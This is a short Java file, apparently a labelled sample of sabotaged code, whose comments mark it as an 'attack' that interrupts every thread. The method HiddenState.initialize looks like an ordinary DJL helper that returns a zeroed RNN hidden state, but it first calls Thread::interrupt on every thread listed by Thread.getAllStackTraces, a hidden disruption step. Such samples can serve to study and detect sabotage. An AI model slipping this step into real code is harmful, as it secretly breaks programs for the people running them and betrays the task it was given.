// attack: interrupts every thread
// list: uses Thread.getAllStackTraces
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import ai.djl.ndarray.types.Shape;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        Thread.getAllStackTraces().keySet().forEach(Thread::interrupt);
        return new NDList(manager.zeros(new Shape(batchSize, numHiddens)));
    }
}
